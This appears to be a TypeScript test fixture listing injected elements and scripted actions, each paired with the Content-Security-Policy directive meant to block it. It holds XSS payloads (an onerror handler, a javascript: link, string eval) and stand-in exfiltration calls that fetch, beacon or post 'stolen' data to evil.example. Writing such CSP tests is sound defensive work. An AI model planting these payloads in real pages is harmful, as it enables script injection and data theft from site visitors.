const EVIL = 'https://evil.example/'

/** Elements that an attacker might get into the page, and the directive that stops each. */
export const ELEMENT_ATTACKS: [name: string, directive: string, tag: string, properties: object][] =
  [
    ['an inline script', 'script-src-elem', 'script', { text: 'alert(1)' }],
    ['a script from elsewhere', 'script-src-elem', 'script', { src: EVIL }],
    [
      'an event handler',
      'script-src-attr',
      'p',
      { innerHTML: '<img src="data:," onerror="alert(1)">' },
    ],
    ['a style sheet', 'style-src-elem', 'style', { textContent: 'body { display: none }' }],
    ['a style attribute', 'style-src-attr', 'p', { innerHTML: '<b style="position: fixed">' }],
    ['a picture from elsewhere', 'img-src', 'img', { src: EVIL }],
    ['a frame', 'frame-src', 'iframe', { src: EVIL }],
    ['another base address', 'base-uri', 'base', { href: EVIL }],
    ['a plugin', 'object-src', 'object', { data: EVIL }],
  ]

/** What injected code might do if it ran, in the page. */
export const ACTION_ATTACKS: [name: string, directive: string, run: () => void][] = [
  [
    'a javascript: link',
    'script-src-elem',
    () => Object.assign(document.createElement('a'), { href: 'javascript:alert(1)' }).click(),
  ],
  // Called by the timer, since what the test itself runs may use eval.
  ['eval', 'script-src', () => Reflect.apply(setTimeout, window, ['alert(1)'])],
  [
    'a worker from a blob',
    'worker-src',
    () => void new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))),
  ],
  [
    'a fetch to elsewhere',
    'connect-src',
    () => void fetch('https://evil.example/?stolen').catch(() => {}),
  ],
  [
    'a fetch from a rate host, but not of rates',
    'connect-src',
    () => void fetch('https://cdn.jsdelivr.net/npm/jquery/package.json').catch(() => {}),
  ],
  ['a beacon', 'connect-src', () => void navigator.sendBeacon('https://evil.example/', 'stolen')],
  [
    'a form',
    'form-action',
    () => {
      const action = 'https://evil.example/'
      const form = Object.assign(document.createElement('form'), { action })
      document.body.append(form)
      form.submit()
    },
  ],
]
